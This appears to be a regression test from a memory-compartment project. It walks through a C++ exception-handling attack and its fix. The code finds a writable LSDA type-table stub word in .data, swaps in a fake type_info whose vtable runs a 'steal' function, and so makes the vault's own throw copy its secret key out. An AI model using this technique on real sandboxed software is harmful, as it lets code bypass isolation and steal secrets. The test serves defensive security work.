// Review 25, attacker model A (one key-0 store, no system call). A C++
// catch clause names its type through the LSDA's type table, and clang
// writes each entry indirectly (TType encoding indirect|pcrel|sdata4): to
// a word .L_ZTI<type>.DW.stub that holds the type_info's address, which
// the backend puts in the object's plain .data (key-0 writable, outside
// RELRO; GCC's DW.ref._ZTI* words likewise). libstdc++'s personality
// routine reads that word while a throw looks for its handler and calls
// the virtual __do_catch of what it points to, with the rights of whoever
// throws: a compartment that throws and catches inside itself calls it
// with its own. runtime/unwind-find.c keeps the FDE and the LSDA they
// lead to read-only, and the personality word is the known open
// attacks-unwind-personality.cpp; this word is another one, read by
// libstdc++, not by libgcc_s.
// Here the program finds in its own .data the word holding &typeid(E) (a
// fixed offset in the binary: model A; found here by its contents, in the
// key-0 pages /proc/self/smaps lists) and stores there the address of a
// fake type_info (key-0 .data) whose vtable names code of its choosing
// (steal: a function of the program's whose address is taken in asm, so
// no gate wraps it; it stands for any code that copies through key-0
// pointers). The vault's own throw calls it with the vault's rights: it
// copies the vault's key into the program's buffer and answers "match",
// so the vault's catch still works (ATTACK SUCCEEDED; seen in the guest,
// review 25). The control stores nothing, steals nothing.
// Fixed (runtime/unwind-copy.c): with a compartment's rights the unwinder
// gets a copy of the FDE whose LSDA is a copy too, its type table absolute
// (DW_EH_PE_absptr): each entry the type_info's address that the word held
// at start-up, before any of the program's code ran (recorded for every
// start-up object's LSDAs, runtime/unwind-find.c). The store below still
// succeeds; the vault's catch no longer reads the word. The fix suggested
// at the time: keep the words read-only. The stubs are emitted by
// LLVM's AsmPrinter (ELF GV stubs, data section), not IR globals the pass
// could move: the driver could pass a linker script fragment or the
// runtime could, after relocation and before any program code, copy each
// object's LSDA type-table words into a read-only page and answer, with a
// compartment's rights, an FDE whose LSDA names those copies; simplest,
// have the backend emit the stubs in .data.rel.ro (RELRO). Whatever fixes
// DW.ref.__gxx_personality_v0 should cover these words too, in every
// object a compartment's throw passes (libstdc++'s own catch clauses).
// REQUIRES: pku
// RUN: %bulkhead_clangxx -fpkey-compartments -O2 %s -o %t
// RUN: %run %t control | FileCheck %s --check-prefix=CONTROL
// RUN: %run %t | FileCheck %s
// CONTROL: caught in the vault: 4
// CONTROL-NEXT: nothing stolen
// CHECK: words holding &typeid(E) in .data: 1
// CHECK: caught in the vault: 4
// CHECK-NOT: ATTACK SUCCEEDED
#include <bulkhead.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <typeinfo>
#include "Inputs/key0-words.h"

BULKHEAD_DATA(vault) char vault_key[32] = "TOP-SECRET-VAULT-KEY";

struct E {
  int v;
};

__attribute__((noinline)) static void vault_fail(int v) {
  if (v)
    throw E{v};
}
extern "C" BULKHEAD_ENTRY(vault) int vault_catch(int v) {
  try {
    vault_fail(v);
  } catch (E &e) {
    return e.v + 1;
  }
  return 0;
}

static char stolen[32];
static const char *volatile from = vault_key; /* key-0 words */
static char *volatile to = stolen;

/* Called as catch_type->__do_catch(throw_type, &obj, outer). */
extern "C" __attribute__((used)) bool steal(const void *self,
                                            const std::type_info *thrown,
                                            void **obj, unsigned outer) {
  (void)self, (void)obj, (void)outer;
  for (int i = 0; i < 31; i++)
    to[i] = from[i];
  return thrown == &typeid(E);
}

/* A type_info: its vtable pointer (to the address point) and its name. */
static const void *fake_vtable[8];
static struct {
  const void *vptr;
  const char *name;
} fake = {fake_vtable, "1E"};

extern "C" char __data_start[], _edata[];

int main(int argc, char **argv) {
  (void)argv;
  if (argc < 2) {
    void *p;
    __asm__("leaq steal(%%rip), %0" : "=r"(p));
    for (int i = 0; i < 8; i++)
      fake_vtable[i] = p; /* __do_catch is slot 4 */
    int n = 0;
    /* The key-0 pages of the executable's .data (the vault's data may
     * sit among them, on pages of its own key). */
    struct key0_region r[512];
    int k = key0_regions(r, 512);
    for (int i = 0; i < k; i++) {
      uintptr_t lo = (uintptr_t)r[i].lo, hi = (uintptr_t)r[i].hi;
      lo = lo > (uintptr_t)__data_start ? lo : (uintptr_t)__data_start;
      hi = hi < (uintptr_t)_edata ? hi : (uintptr_t)_edata;
      for (const void **w = (const void **)lo; w + 1 <= (const void **)hi; w++)
        if (*w == &typeid(E)) {
          *w = &fake; /* the one store that matters */
          n++;
        }
    }
    printf("words holding &typeid(E) in .data: %d\n", n);
  }
  printf("caught in the vault: %d\n", vault_catch(3));
  if (strstr(stolen, "TOP-SECRET")) {
    printf("ATTACK SUCCEEDED: the vault's key in the program's memory: %s\n",
           stolen);
    return 0;
  }
  puts("nothing stolen");
  return 0;
}
